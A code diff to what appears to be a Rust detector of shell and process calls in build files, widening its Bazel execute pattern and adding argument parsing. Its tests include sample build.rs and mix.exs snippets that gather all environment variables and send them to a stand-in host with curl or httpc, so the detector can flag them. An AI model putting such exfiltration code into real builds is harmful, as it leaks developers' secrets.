@@ -72,7 +72,7 @@ const TONGUES: &[Tongue] = &[
     },
     Tongue {
         endings: &[".jl"], comment: "#", quotes: b"\"`",
-        calls: &[("run(", How::Line), (" read(`", How::Line), ("readchomp(", How::Line), ("pipeline(", How::Line)],
+        calls: &[("run(", How::Line), ("readchomp(", How::Line), ("pipeline(", How::Line)],
         at_once: &[], automatic: &["build.jl"],
     },
     Tongue {
@@ -112,7 +112,7 @@ const TONGUES: &[Tongue] = &[
     },
     Tongue {
         endings: &[".bzl", ".bazel", ".star", "BUILD", "WORKSPACE"], comment: "#", quotes: b"\"'",
-        calls: &[("ctx.execute(", How::Words), ("repository_ctx.execute(", How::Words), ("run_shell(", How::Line), (" cmd = ", How::Line)],
+        calls: &[(".execute(", How::Words), ("run_shell(", How::Line), (" cmd = ", How::Line)],
         at_once: &[], automatic: &[],
     },
 ];
@@ -187,12 +187,14 @@ pub(super) fn read(file: &Parsed<'_>, text: &str, out: &mut Vec<Command>, notes:
                 continue;
             }
             let open = at + name.len();
+            let range = extent(&source.code, open);
             let mut words = match how {
                 How::Before => words_of(&source, before_call(&source.code, at)),
-                _ => words_of(&source, extent(&source.code, if name.ends_with('`') { open - 1 } else { open })),
+                How::Words => by_name(&source, range.clone()).unwrap_or_else(|| words_of(&source, range.clone())),
+                _ => words_of(&source, range.clone()),
             };
             if words.is_empty() && !matches!(how, How::Before | How::Behind) {
-                words = named(&source, extent(&source.code, open));
+                words = named(&source, range);
             }
             if *how == How::Behind {
                 let from = source.code.floor_char_boundary(at.saturating_sub(APART));
@@ -319,6 +321,20 @@ fn name_in(code: &str) -> Option<&str> {
     code.split(|c: char| !is_part(c)).rfind(|w| w.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_'))
 }
 
+/// The words of a call whose program, or whole list of words, goes by a name. Options behind it are no words.
+fn by_name(source: &Source, range: std::ops::Range<usize>) -> Option<Vec<String>> {
+    let code = source.code.get(range.clone())?;
+    let first = code.find(',')?;
+    let is_text = source.literals.iter().any(|(at, _)| range.contains(at) && *at < range.start + first);
+    if is_text || code.get(..first)?.contains(['(', '[', '{']) {
+        return None;
+    }
+    let mut words = named(source, range.start..range.start + first);
+    let end = code.find('{').filter(|open| *open > first).unwrap_or(code.len());
+    words.extend(words_of(source, range.start + first..range.start + end));
+    (!words.is_empty()).then_some(words)
+}
+
 /// The texts that the name in a call was given before it.
 fn named(source: &Source, range: std::ops::Range<usize>) -> Vec<String> {
     let code = source.code.get(range.clone()).unwrap_or_default();
@@ -417,7 +433,7 @@ mod tests {
         );
         assert_eq!(
             of("x.bzl", "def _f(ctx):\n    ctx.execute([\"bash\", \"-c\", \"a | b\"])\n"),
-            ["Build ctx.execute of a program: bash -c 'a | b'"]
+            ["Build execute of a program: bash -c 'a | b'"]
         );
     }
 
@@ -437,6 +453,12 @@ mod tests {
         let mix =
             "e = System.get_env() |> inspect()\n:httpc.request(:post, {'https://c.invalid/', [], 'a', e}, [], [])\n";
         assert_eq!(rules("mix.exs", mix), ["source-environment-and-network"]);
+        let build = "fn main() { let all: Vec<String> = env::vars().map(f).collect();\n    Command::new(\"curl\").args([\"--data\", &all.join(\" \"), \"https://c.invalid/\"]).output(); }\n";
+        assert!(rules("build.rs", build).contains(&"source-environment-and-network"));
+        assert!(
+            !rules("build.rs", &build.replace("\"--data\", &all.join(\" \"), ", ""))
+                .contains(&"source-environment-and-network")
+        );
         let of_one = "e = System.get_env(\"MIX_ENV\")\n:httpc.request(:get, {'https://c.invalid/', []}, [], [])\n";
         assert!(rules("mix.exs", of_one).is_empty());
     }
